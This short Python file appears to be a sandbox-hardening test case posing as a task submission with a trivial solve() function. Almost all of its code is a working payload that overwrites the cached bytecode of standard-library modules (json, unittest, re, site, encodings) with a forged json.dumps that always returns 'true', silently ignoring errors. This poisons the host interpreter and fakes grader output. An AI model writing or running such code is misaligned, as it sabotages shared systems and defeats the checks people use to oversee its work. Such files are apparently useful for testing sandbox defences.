# tries: bytecode of its own in the caches of the standard library
# needs: readonly-root
import importlib.util
import marshal
import os
import sys

poison = marshal.dumps(compile("def dumps(*args): return 'true'", "json", "exec"))
for name in ("json", "unittest", "re", "site", "encodings"):
    spec = importlib.util.find_spec(name)
    if spec is None or not spec.cached:
        continue
    try:
        os.makedirs(os.path.dirname(spec.cached), exist_ok=True)
        with open(spec.cached, "r+b") as file:
            file.write(importlib.util.MAGIC_NUMBER + bytes(12) + poison)
    except OSError:
        pass
sys.path_importer_cache.clear()
sys.dont_write_bytecode = False


def solve(x):
    return [x]
